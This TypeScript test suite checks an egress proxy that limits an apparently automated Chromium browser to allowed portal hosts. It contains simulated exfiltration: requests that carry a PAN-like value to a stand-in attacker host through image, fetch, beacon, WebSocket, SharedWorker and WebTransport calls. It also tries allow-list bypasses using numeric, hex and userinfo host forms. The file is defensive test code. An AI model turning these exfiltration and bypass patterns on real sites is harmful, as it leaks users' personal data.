import { createSocket } from 'node:dgram';
import { request, type IncomingMessage } from 'node:http';
import { connect, type Socket } from 'node:net';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CHROMIUM_FLAGS, chromiumPath } from '../../../src/agent/browser/chromium';
import { EgressProxy } from '../../../src/agent/guard/egress-proxy';
import { contextOptionsFor, egressLockOf, installWatchdogs, openGuardedContext, type GuardEvent } from '../../../src/agent/guard/browser';
import { ATTACKER, HELP, launchLabChromium, PORTAL, PortalServer } from './watchdogs/portal-server';

/**
 * The egress lock alone: the proxy, driven first by hand (raw HTTP and CONNECT, as Chromium
 * speaks to a proxy) and then by real Chromium with no other lock installed, so whatever it lets
 * through lands at the server and is counted there.
 */

const server = new PortalServer();
const LAB_RULES = 'MAP * 127.0.0.1';

beforeAll(async () => {
  await server.start();
});
afterAll(async () => {
  await server.stop();
});
beforeEach(() => server.clear());

interface Started {
  proxy: EgressProxy;
  events: GuardEvent[];
  port: number;
}

const running: EgressProxy[] = [];
afterEach(async () => {
  await Promise.all(running.splice(0).map((p) => p.close()));
});

async function startProxy(rules: string | undefined = LAB_RULES): Promise<Started> {
  const proxy = await EgressProxy.start(server.profile(), rules === undefined ? {} : { hostResolverRules: rules });
  running.push(proxy);
  const events: GuardEvent[] = [];
  proxy.reportTo((e) => events.push(e));
  return { proxy, events, port: Number(new URL(proxy.url).port) };
}

/** A request through the proxy in absolute form; answers the status and body, or 'no answer' when the proxy hangs up. */
function viaProxy(port: number, url: string, method = 'GET'): Promise<{ status: number | 'no answer'; body: string }> {
  return new Promise((resolve) => {
    const req = request({ host: '127.0.0.1', port, method, path: url, headers: { host: URL.canParse(url) ? new URL(url).host : `${PORTAL}:${server.port}`, 'proxy-connection': 'keep-alive' }, agent: false }, (res) => {
      let body = '';
      res.setEncoding('utf8');
      res.on('data', (chunk: string) => (body += chunk));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
    });
    req.on('error', () => resolve({ status: 'no answer', body: '' }));
    req.end(method === 'POST' ? 'owner_pan=AMNPR6621D' : undefined);
  });
}

/** CONNECT host:port through the proxy; answers the status and, when tunnelled, the socket. */
function tunnel(port: number, authority: string): Promise<{ status: number; socket?: Socket }> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, method: 'CONNECT', path: authority, agent: false });
    req.on('connect', (res: IncomingMessage, socket: Socket) => {
      if (res.statusCode === 200) resolve({ status: 200, socket });
      else {
        socket.destroy();
        resolve({ status: res.statusCode ?? 0 });
      }
    });
    req.on('response', (res: IncomingMessage) => resolve({ status: res.statusCode ?? 0 }));
    req.on('error', reject);
    req.end();
  });
}

/** Whether anything accepts a connection on a loopback port. */
function reachable(port: number): Promise<boolean> {
  return new Promise((resolve) => {
    const socket = connect({ host: '127.0.0.1', port });
    socket.once('connect', () => {
      socket.destroy();
      resolve(true);
    });
    socket.once('error', () => resolve(false));
  });
}

/** Sends a raw HTTP/1.1 GET down a tunnel and answers the first line of the reply. */
function getThrough(socket: Socket, host: string, path: string): Promise<string> {
  return new Promise((resolve) => {
    let reply = '';
    socket.setEncoding('utf8');
    socket.on('data', (chunk: string) => {
      reply += chunk;
      if (reply.includes('\r\n\r\n')) {
        socket.destroy();
        resolve(reply.split('\r\n')[0]!);
      }
    });
    socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
  });
}

describe('egress proxy, by hand', () => {
  it('forwards a portal request to where the resolver rules send its name, with the portal as Host and without proxy headers', async () => {
    const { port, events } = await startProxy();
    const answer = await viaProxy(port, `${server.origin()}/hello?x=1`);
    expect(answer.status).toBe(200);
    expect(answer.body).toContain(`ok ${PORTAL}:${server.port}`);
    expect(server.hits.map((h) => `${h.host} ${h.path}`)).toEqual([`${PORTAL} /hello?x=1`]);
    expect(events).toEqual([]);
  });

  it('hangs up on an http request off the list (no answer in the attacker’s name) and reports it once', async () => {
    const { port, events, proxy } = await startProxy();
    const refused = [
      `http://${ATTACKER}:${server.port}/collect?d=AMNPR6621D`,
      `http://127.0.0.1:${server.port}/ip`,
      `http://2130706433:${server.port}/numeric-ip`,
      `http://${PORTAL}:${server.otherPort}/other-port`,
      `http://${PORTAL}.:${server.port}/trailing-dot`,
      `http://user@${PORTAL}:${server.port}/userinfo`,
    ];
    for (const url of refused) expect(await viaProxy(port, url, 'POST'), url).toEqual({ status: 'no answer', body: '' });
    expect(await viaProxy(port, refused[0]!, 'POST')).toEqual({ status: 'no answer', body: '' });
    expect(server.hits).toEqual([]);
    expect(proxy.refused).toBe(refused.length + 1);
    // The repeat within two seconds is one report (Chromium retries a request the proxy hung up on).
    expect(events).toHaveLength(refused.length);
    expect(events.every((e) => e.type === 'request_blocked' && e.detail.startsWith('Stopped a ') && e.detail.includes('at the egress lock'))).toBe(true);
    expect(events[1]!.detail).toContain('bare IP number');
    expect(events[3]!.detail).toContain(`not on port ${server.otherPort}`);
  });

  it('tunnels to a portal host and port (https, wss and ws go this way)', async () => {
    const { port } = await startProxy();
    const opened = await tunnel(port, `${HELP}:${server.port}`);
    expect(opened.status).toBe(200);
    expect(await getThrough(opened.socket!, `${HELP}:${server.port}`, '/through-tunnel')).toBe('HTTP/1.1 200 OK');
    expect(server.hits.map((h) => `${h.host} ${h.path}`)).toEqual([`${HELP} /through-tunnel`]);
  });

  it('refuses a tunnel to any other name, IP literal, numeric host or port with 403, and reports it', async () => {
    const { port, events } = await startProxy();
    const refused = [`${ATTACKER}:${server.port}`, `127.0.0.1:${server.port}`, `[::1]:${server.port}`, `0x7f.1:${server.port}`, `${PORTAL}:${server.otherPort}`, `${PORTAL}:443`, `${PORTAL}`, `${ATTACKER}@${PORTAL}:${server.port}`];
    for (const authority of refused) expect((await tunnel(port, authority)).status, authority).toBe(403);
    // Asked again, refused again, not reported again (a refused tunnel carried nothing but its name).
    expect((await tunnel(port, refused[0]!)).status).toBe(403);
    expect(server.hits).toEqual([]);
    expect(events.map((e) => e.url)).toEqual(refused);
    expect(events.find((e) => e.url === `0x7f.1:${server.port}`)!.detail).toContain('bare IP number (127.0.0.1)');
  });

  it('takes a browser resetting a connection it refused or is tunnelling (a page closed, a process killed) without an error of its own', async () => {
    const { port } = await startProxy();
    const thrown: unknown[] = [];
    const record = (err: unknown): void => void thrown.push(err);
    process.on('uncaughtException', record);
    try {
      // Reset right after the proxy's answer: a refused tunnel (403) and an open one (200).
      for (const authority of [`${ATTACKER}:${server.port}`, `${PORTAL}:${server.port}`]) {
        const socket = connect(port, '127.0.0.1');
        await new Promise<void>((resolve) => {
          socket.on('error', () => undefined);
          socket.once('data', () => {
            socket.resetAndDestroy();
            resolve();
          });
          socket.write(`CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`);
        });
      }
      await new Promise((resolve) => setTimeout(resolve, 200));
      expect(thrown).toEqual([]);
      // And it still answers.
      expect((await tunnel(port, `${PORTAL}:${server.port}`)).status).toBe(200);
    } finally {
      process.off('uncaughtException', record);
    }
  });

  it('answers a request that is not a proxy request with 400, and reports nothing (no page can send one)', async () => {
    const { port, events } = await startProxy();
    expect((await viaProxy(port, '/origin-form')).status).toBe(400);
    expect(events).toEqual([]);
  });

  it('holds what it refused before anyone listens, and reports it when told where', async () => {
    const proxy = await EgressProxy.start(server.profile(), { hostResolverRules: LAB_RULES });
    running.push(proxy);
    await tunnel(Number(new URL(proxy.url).port), `${ATTACKER}:443`);
    const events: GuardEvent[] = [];
    proxy.reportTo((e) => events.push(e));
    expect(events.map((e) => e.url)).toEqual([`${ATTACKER}:443`]);
  });

  it('cuts open tunnels when it closes', async () => {
    const { port, proxy } = await startProxy();
    const opened = await tunnel(port, `${PORTAL}:${server.port}`);
    const closed = new Promise((resolve) => opened.socket!.once('close', resolve));
    await proxy.close();
    await expect(closed).resolves.toBe(false);
  });
});

describe('egress proxy: its request log, as data', () => {
  it('logs each request it let through and refused (method, host, port, path without query values, rule), repeats counted, and starts again once taken', async () => {
    const { port, proxy } = await startProxy();
    for (let i = 0; i < 3; i++) expect((await viaProxy(port, `${server.origin()}/hello?pan=AMNPR6621D&x=1`)).status).toBe(200);
    expect(await viaProxy(port, `http://${ATTACKER}:${server.port}/collect?d=AMNPR6621D`, 'POST')).toEqual({ status: 'no answer', body: '' });
    expect(await viaProxy(port, `http://${ATTACKER}:${server.port}/collect?d=AMNPR6621D`, 'POST')).toEqual({ status: 'no answer', body: '' });
    expect((await tunnel(port, `${HELP}:${server.port}`)).status).toBe(200);
    expect((await tunnel(port, `${ATTACKER}:443`)).status).toBe(403);
    expect((await tunnel(port, `${ATTACKER}:443`)).status).toBe(403);
    const log = proxy.takeRequests();
    const rows = log.map((e) => ({ ...e, firstAt: typeof e.firstAt, lastAt: typeof e.lastAt }));
    expect(rows).toEqual([
      { kind: 'http', method: 'GET', host: PORTAL, port: server.port, path: '/hello?pan=…&x=…', outcome: 'sent', rule: 'egress-lock:portal-hosts', count: 3, firstAt: 'string', lastAt: 'string' },
      { kind: 'http', method: 'POST', host: ATTACKER, port: server.port, path: '/collect?d=…', outcome: 'refused', rule: 'egress-lock:portal-hosts', reason: expect.stringMatching(/not one of/), count: 2, firstAt: 'string', lastAt: 'string' },
      { kind: 'tunnel', method: 'CONNECT', host: HELP, port: server.port, path: null, outcome: 'sent', rule: 'egress-lock:portal-hosts', count: 1, firstAt: 'string', lastAt: 'string' },
      { kind: 'tunnel', method: 'CONNECT', host: ATTACKER, port: 443, path: null, outcome: 'refused', rule: 'egress-lock:portal-hosts', reason: expect.any(String), count: 2, firstAt: 'string', lastAt: 'string' },
    ]);
    // No query value, anywhere in the log.
    expect(JSON.stringify(log)).not.toContain('AMNPR6621D');
    expect(proxy.takeRequests()).toEqual([]);
    expect((await viaProxy(port, `${server.origin()}/again`)).status).toBe(200);
    expect(proxy.takeRequests().map((e) => `${e.method} ${e.path} ${e.count}`)).toEqual(['GET /again 1']);
  });

  it('keeps a step of many distinct requests to 200 entries: the rest are counted per host', async () => {
    const { port, proxy } = await startProxy();
    for (let i = 0; i < 230; i += 10) await Promise.all(Array.from({ length: 10 }, (_, j) => viaProxy(port, `${server.origin()}/img/${i + j}.png`)));
    const log = proxy.takeRequests();
    expect(log).toHaveLength(201);
    expect(log.at(-1)).toMatchObject({ method: '*', host: PORTAL, path: '(more requests, counted together)', outcome: 'sent', count: 30 });
    expect(log.reduce((n, e) => n + e.count, 0)).toBe(230);
  });
});

describe('egress proxy in Chromium, with no other lock', () => {
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let started: Started;

  beforeAll(async () => {
    browser = await launchLabChromium();
  });
  afterAll(async () => {
    await browser?.close();
  });
  beforeEach(async () => {
    started = await startProxy();
    context = await browser.newContext({ proxy: { server: started.proxy.url, bypass: '<-loopback>' } });
    page = await context.newPage();
  });
  afterEach(async () => {
    await context.close();
  });

  const attacker = (path: string) => `http://${ATTACKER}:${server.port}${path}`;

  it('the portal loads through it, frames of an allowed site too', async () => {
    const path = server.page('/portal', `<iframe src="http://${HELP}:${server.port}/help"></iframe>`);
    const response = await page.goto(`${server.origin()}${path}`);
    expect(response?.status()).toBe(200);
    await expect.poll(() => server.to(HELP).length, { timeout: 10_000 }).toBe(1);
    expect(server.offPortal()).toEqual([]);
  });

  it('stops what a page sends anywhere else: image, fetch, beacon, frame, WebSocket, IP literal, other port, a redirect hop', async () => {
    const path = server.page(
      '/leaky',
      `<img src="${attacker('/pixel.gif')}"><iframe src="${attacker('/frame')}"></iframe><script>
        fetch(${JSON.stringify(attacker('/fetch'))}, { method: 'POST', mode: 'no-cors', body: 'd=1' }).catch(() => {});
        navigator.sendBeacon(${JSON.stringify(attacker('/beacon'))}, 'd=1');
        fetch('http://127.0.0.1:${server.port}/ip', { mode: 'no-cors' }).catch(() => {});
        fetch('http://${PORTAL}:${server.otherPort}/other-port', { mode: 'no-cors' }).catch(() => {});
        try { const s = new WebSocket('ws://${ATTACKER}:${server.port}/socket'); s.onerror = () => {}; } catch (e) {}
        fetch('/redirect?to=' + encodeURIComponent(${JSON.stringify(attacker('/after-redirect'))}), { mode: 'no-cors' }).catch(() => {});
      </script>`,
    );
    await page.goto(`${server.origin()}${path}`);
    const expected = [attacker('/pixel.gif'), attacker('/frame'), attacker('/fetch'), attacker('/beacon'), `http://127.0.0.1:${server.port}/ip`, `http://${PORTAL}:${server.otherPort}/other-port`, `${ATTACKER}:${server.port}`, attacker('/after-redirect')];
    await expect.poll(() => started.events.map((e) => e.url), { timeout: 15_000 }).toEqual(expect.arrayContaining(expected));
    await page.waitForTimeout(300);
    // The redirect itself came from the portal (allowed); its next hop went nowhere.
    expect(server.offPortal()).toEqual([]);
    expect(server.to(PORTAL).some((h) => h.path.startsWith('/redirect'))).toBe(true);
  });

  it('a navigation off the list is a network error, not a page the proxy made', async () => {
    await expect(page.goto(attacker('/away'))).rejects.toThrow(/ERR_EMPTY_RESPONSE|ERR_CONNECTION_CLOSED|ERR_CONNECTION_RESET/);
    expect(server.offPortal()).toEqual([]);
  });
});

describe('openGuardedContext: a run’s context always has the egress lock', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launchLabChromium();
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('routes the context through a proxy of its own that reports through the watchdogs and closes with the context', async () => {
    const context = await openGuardedContext(browser, server.profile());
    const events: GuardEvent[] = [];
    const watchdogs = await installWatchdogs(context, server.profile(), (e) => events.push(e));
    const page = await watchdogs.openPage();
    await page.goto(`${server.origin()}/guarded`);
    // A SharedWorker's request: the page-level locks never see it, so only the egress lock can report it.
    await page.evaluate((target) => {
      const source = `onconnect = () => { fetch(${JSON.stringify(target)}, { mode: 'no-cors' }).catch(() => {}); };`;
      new SharedWorker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' }))).port.start();
    }, `http://${ATTACKER}:${server.port}/from-worker`);
    await expect.poll(() => events.map((e) => e.url), { timeout: 15_000 }).toContain(`http://${ATTACKER}:${server.port}/from-worker`);
    expect(events.find((e) => e.url?.endsWith('/from-worker'))!.detail).toContain('at the egress lock');
    expect(server.offPortal()).toEqual([]);
    const lock = egressLockOf(context)!;
    expect(lock.refused).toBeGreaterThanOrEqual(1);

    // Closed with the context: nothing listens on its port any more.
    const port = Number(new URL(lock.url).port);
    expect(await reachable(port)).toBe(true);
    await context.close();
    await expect.poll(() => reachable(port), { timeout: 5_000 }).toBe(false);
  });

  it('the watchdogs refuse a context opened without it', async () => {
    const context = await browser.newContext(contextOptionsFor(server.profile()));
    try {
      await expect(installWatchdogs(context, server.profile(), () => undefined)).rejects.toThrow(/openGuardedContext/);
    } finally {
      await context.close();
    }
  });
});

describe('egress proxy in Chromium: WebTransport (QUIC over UDP)', () => {
  let browser: Browser;
  beforeAll(async () => {
    // WebTransport needs a secure page: the test portal's http origin is treated as one (as an https portal is).
    browser = await chromium.launch({ executablePath: chromiumPath(), args: [...CHROMIUM_FLAGS, `--host-resolver-rules=${LAB_RULES}`, `--unsafely-treat-insecure-origin-as-secure=${server.origin()}`] });
  });
  afterAll(async () => {
    await browser?.close();
  });

  /** Opens WebTransport sessions to an IP literal and an attacker name at a UDP listener; answers how many datagrams it received. */
  async function datagramsFrom(context: BrowserContext): Promise<number> {
    const udp = createSocket('udp4');
    let datagrams = 0;
    udp.on('message', () => (datagrams += 1));
    await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
    try {
      const page = await context.newPage();
      await page.goto(`${server.origin()}/secure`);
      const port = udp.address().port;
      const kinds = await page.evaluate(async (p) => {
        const out: string[] = [String(isSecureContext)];
        for (const url of [`https://127.0.0.1:${p}/wt?d=AMNPR6621D`, `https://wt.attacker.example:${p}/wt?d=AMNPR6621D`]) {
          const session = new WebTransport(url);
          session.ready.catch(() => undefined);
          session.closed.catch(() => undefined);
          await new Promise((r) => setTimeout(r, 1000));
          out.push(typeof session);
        }
        return out;
      }, port);
      expect(kinds).toEqual(['true', 'object', 'object']);
      await page.waitForTimeout(300);
      return datagrams;
    } finally {
      udp.close();
    }
  }

  it('control: without the proxy, a page’s WebTransport sends UDP to any address', async () => {
    const context = await browser.newContext();
    try {
      expect(await datagramsFrom(context)).toBeGreaterThan(0);
    } finally {
      await context.close();
    }
  });

  it('behind the proxy, Chromium sends WebTransport nowhere (it does not tunnel QUIC through an http proxy)', async () => {
    const { proxy } = await startProxy();
    const context = await browser.newContext({ proxy: { server: proxy.url, bypass: '<-loopback>' } });
    try {
      expect(await datagramsFrom(context)).toBe(0);
    } finally {
      await context.close();
    }
  });
});
